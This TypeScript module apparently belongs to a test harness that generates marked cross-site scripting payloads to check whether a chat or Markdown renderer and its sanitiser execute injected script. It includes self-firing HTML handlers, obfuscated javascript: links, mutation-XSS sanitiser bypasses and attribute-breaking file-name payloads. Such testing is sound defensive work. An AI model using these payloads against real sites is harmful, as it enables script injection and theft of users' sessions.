/** A text that runs as script where it is put into a page as HTML, or where its link is followed. */
export interface Payload {
  /** For the report. */
  family: string;
  /** Stands in front of it as plain text: where it shows, the payload was rendered. */
  marker: string;
  text: string;
}

type Write = (call: string, marker: string) => string;

const BY_THEMSELVES: Record<string, Write> = {
  'an image with an error handler': (call) => `<img src=x onerror="${call}">`,
  'an SVG with a load handler': (call) => `<svg onload="${call}"></svg>`,
  'an opened details element': (call) => `<details open ontoggle="${call}">.</details>`,
  'a script element': (call) => `<script>${call}</script>`,
  'a field that takes the focus': (call) => `<input autofocus onfocus="${call}">`,
  'a frame with a document of its own': (call) =>
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
};

/** They mean something when they have been clicked, and are known by their text. */
const CLICKED: Record<string, Write> = {
  'a Markdown link to script': (call, m) => `[${m}link](javascript:${call})`,
  'a Markdown link to script with a tab in its scheme': (call, m) =>
    `[${m}link](java&#x09;script:${call})`,
  'a Markdown link to script with a letter written as a number': (call, m) =>
    `[${m}link](&#106;avascript:${call})`,
  'an HTML link to script': (call, m) => `<a href="javascript:${call}">${m}link</a>`,
  'an SVG link to script': (call, m) =>
    `<svg><a xlink:href="javascript:${call}"><text y="9">${m}link</text></a></svg>`,
  'an SVG link that is animated to script': (call, m) =>
    `<svg><a><animate attributeName="href" to="javascript:${call}" fill="freeze"/><text y="9">${m}link</text></a></svg>`,
  'a button that sends its form to script': (call, m) =>
    `<form><button formaction="javascript:${call}">${m}link</button></form>`,
};

/**
 * What becomes script only when a sanitiser’s result is read once more. The last one leaves elements open: what comes
 * behind an open element goes with it where a sanitiser takes it out.
 */
const MUTATING: Record<string, Write> = {
  'an attribute that ends a noscript element': (call) =>
    `<noscript><p title="</noscript><img src=x onerror=${call}>"></p></noscript>`,
  'a style sheet between MathML and HTML': (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
};

/**
 * The payload families of one message. A reply that is streamed comes in pieces: a sanitiser that looks at each piece
 * alone sees halves of all of them. What runs by itself comes late: while a reply grows it is made again with each piece.
 *
 * @param call the name of a function in the page that the oracle listens on; it takes a family's marker
 * @param nonce `[a-z0-9]`, part of each marker
 */
export function payloads(call: string, nonce: string): Payload[] {
  const families = [CLICKED, BY_THEMSELVES, MUTATING].flatMap((each) => Object.entries(each));
  return families.map(([family, write], index) => {
    // No marker is the beginning of another one.
    const marker = `${nonce}p${index}x`;
    return { family, marker, text: `${marker} ${write(`${call}('${marker}')`, marker)}` };
  });
}

/** The shortest payload, as a title: the marker begins and ends it, so that one sees where a title was cut off. */
export function titlePayload(call: string, nonce: string): Payload & { end: string } {
  const marker = `${nonce}t`;
  const end = `${marker}end`;
  const text = `${marker}<img src=x onerror=${call}('${marker}')>${end}`;
  return { family: 'an image with an error handler', marker, end, text };
}

/**
 * Names of files, up to their extension: file systems forbid a slash, and uploads write a double quotation mark as `%22`.
 *
 * The first ends an attribute in which it is put and begins an element; the second needs no element: it only ends the
 * attribute, and runs when somebody points at what it stands in.
 */
export function filePayloads(call: string, nonce: string): (Payload & { end: string })[] {
  const write = (family: string, letter: string, text: (run: string) => string) => {
    const marker = `${nonce}${letter}`;
    const end = `${marker}end`;
    return { family, marker, end, text: `${marker}"'${text(`${call}('${marker}')`)}${end}` };
  };
  return [
    write('an image with an error handler', 'f', (run) => `><img src=x onerror=${run}>`),
    write('an attribute that handles the pointer', 'g', (run) => ` onmouseover=${run} `),
  ];
}
